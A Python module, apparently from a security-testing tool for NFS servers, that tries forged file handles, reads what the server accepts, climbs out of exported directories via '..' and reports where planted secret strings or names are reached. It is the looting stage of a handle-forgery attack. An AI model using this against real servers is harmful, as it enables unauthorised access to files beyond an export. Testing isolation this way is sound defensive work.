"""What a handle leads to: everything that the server accepts is read, listed and climbed out of, and compared with secrets."""

from . import calls

MOST_OBJECTS = 40000
CLIMBS = (b"..",)


def shown(data, most=60):
    return data[:most].decode("latin-1").encode("unicode_escape").decode()


def described(handle, accepted):
    return f"handle {handle.hex()}, inode {accepted[handle].inode}"


class Loot:
    def __init__(self, nfs, secrets, names):
        self.nfs = nfs
        self.secrets = [secret.encode() for secret in secrets]
        self.names = {name.encode() for name in names}
        self.seen = set()
        self.found = {}
        self.files = self.directories = self.entries = 0
        self.fsids = set()

    def note(self, what, way):
        """The first way to each secret is told, the others are counted."""
        self.found.setdefault(what, []).append(way)

    def compare(self, text, way):
        for secret in self.secrets:
            if text is not None and secret in text:
                self.note(f"content '{shown(secret)}'", way)

    def try_handles(self, forged):
        """Explores what is accepted of them, and whatever that leads to; returns how many were tried and accepted."""
        tried = accepted = 0
        todo = []
        for handle in forged:
            if handle in self.seen:
                continue
            self.seen.add(handle)
            todo.append(handle)
            tried += 1
            if len(todo) == 1024:
                accepted += self.explore(todo)
                todo = []
        return tried, accepted + self.explore(todo)

    def explore(self, todo):
        accepted = self.visit(todo)
        first = len(accepted)
        while accepted and self.files + self.directories < MOST_OBJECTS:
            accepted = self.visit(self.take_from(accepted))
        return first

    def visit(self, todo):
        """{handle: attributes} of those that the server accepts; the texts of them are read."""
        accepted = {handle: got for handle, got in zip(todo, self.nfs.getattr(todo)) if got is not None}
        self.fsids.update(got.fsid for got in accepted.values())
        self.take_texts(accepted, calls.REGULAR, self.nfs.read)
        self.take_texts(accepted, calls.LINK, self.nfs.readlink)
        return accepted

    def take_texts(self, accepted, kind, read):
        chosen = [handle for handle, got in accepted.items() if got.kind == kind]
        self.files += len(chosen)
        for handle, text in zip(chosen, read(chosen)):
            self.compare(text, described(handle, accepted))

    def take_from(self, accepted):
        """Lists the directories and climbs out of them; returns the handles that are new."""
        chosen = [handle for handle, got in accepted.items() if got.kind == calls.DIRECTORY]
        self.directories += len(chosen)
        reached = self.nfs.lookup([(handle, name) for handle in chosen for name in CLIMBS])
        for handle, listing in zip(chosen, self.nfs.list(chosen)):
            for entry in listing or ():
                self.entries += 1
                if entry.name in self.names:
                    self.note(f"name '{shown(entry.name)}'", described(handle, accepted))
                reached.append(entry.handle)
        new = {handle for handle in reached if handle} - self.seen
        self.seen |= new
        return list(new)

    def report(self):
        for what, ways in self.found.items():
            print(f"FOREIGN: {what}, {len(ways)} times; first by {ways[0]}")
